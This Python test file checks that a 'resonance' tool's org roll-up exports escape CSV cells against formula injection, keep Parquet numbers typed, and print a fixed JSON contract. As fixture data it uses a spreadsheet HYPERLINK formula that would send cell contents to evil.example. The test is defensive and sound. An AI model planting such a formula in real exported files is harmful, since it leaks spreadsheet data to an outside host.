"""Exports of the roll-up: CSV cells never start a formula, Parquet keeps numbers as numbers, and
only shown units are written; `resonance org --json` prints exactly the documented object."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pyarrow.parquet as pq
from tests.org_company import Person, load_directory, write_metrics

from resonance.org.export import safe_cell, write_rollup
from resonance.org.rollup import rollup

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
SRC = Path(__file__).resolve().parents[1] / "src"


def _company(con) -> None:
    people = [Person(f"A{i}", None, EVIL, "+Berlin", "@role") for i in range(6)]
    people += [Person(f"B{i}", None, "Sales", "-Lyon", "engineer") for i in range(6)]
    load_directory(con, people)
    write_metrics(con, "2026-03", {p.id: {"activity": float(i)} for i, p in enumerate(people)})


def test_safe_cell():
    assert safe_cell("=1+1") == "'=1+1" and safe_cell("+x") == "'+x" and safe_cell("-x") == "'-x"
    assert safe_cell("@x") == "'@x" and safe_cell("\tx") == "'\tx" and safe_cell("Sales") == "Sales"


def test_csv_and_parquet_export(store, tmp_path):
    con = store.con
    _company(con)
    for by in ("department", "location", "role"):
        result = rollup(con, by, "2026-03", min_group_size=5)
        out = tmp_path / f"{by}.csv"
        assert write_rollup(con, result, out) == len(result["groups"]) == 2
        rows = list(csv.DictReader(out.open()))
        for row in rows:
            for key in ("unit", "label", "by", "period"):
                assert not row[key].startswith(("=", "+", "-", "@")), row[key]
        assert {r["unit"] for r in rows} & {"'" + EVIL, "'+Berlin", "'-Lyon", "'@role"}
        pq_out = tmp_path / f"{by}.parquet"
        write_rollup(con, result, pq_out)
        table = pq.read_table(pq_out)
        assert table.schema.field("size").type == "int64" and table.column("activity_mean").to_pylist()[0] >= 0


def test_org_command_prints_exactly_the_contract(store, tmp_path):
    _company(store.con)
    db = store.path
    store.close()  # the command opens the file itself
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "resonance",
            "org",
            "--by",
            "department",
            "--period",
            "2026-03",
            "--json",
            "--db",
            str(db),
        ],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"},
        timeout=300,
    )
    assert run.returncode == 0, run.stderr
    doc = json.loads(run.stdout)
    assert list(doc) == ["by", "period", "min_group_size", "groups", "suppressed"]
    assert doc["by"] == "department" and doc["period"] == "2026-03" and doc["min_group_size"] == 5
    assert [list(g) for g in doc["groups"]] == [["unit", "size", "metrics"]] * 2 and doc["suppressed"] == 0
    assert set(doc["groups"][0]["metrics"]) == {
        "activity",
        "reaction",
        "eminence",
        "network",
        "knowledge_value",
        "persona",
    }
    out = tmp_path / "org.csv"
    run = subprocess.run(
        [
            sys.executable,
            "-m",
            "resonance",
            "export",
            "org",
            "--by",
            "location",
            "--period",
            "2026-03",
            "--out",
            str(out),
            "--db",
            str(db),
        ],
        capture_output=True,
        text=True,
        env={"PYTHONPATH": str(SRC), "PATH": "/usr/bin:/bin"},
        timeout=300,
    )
    assert run.returncode == 0, run.stderr
    assert "'+Berlin" in out.read_text() and "'-Lyon" in out.read_text()
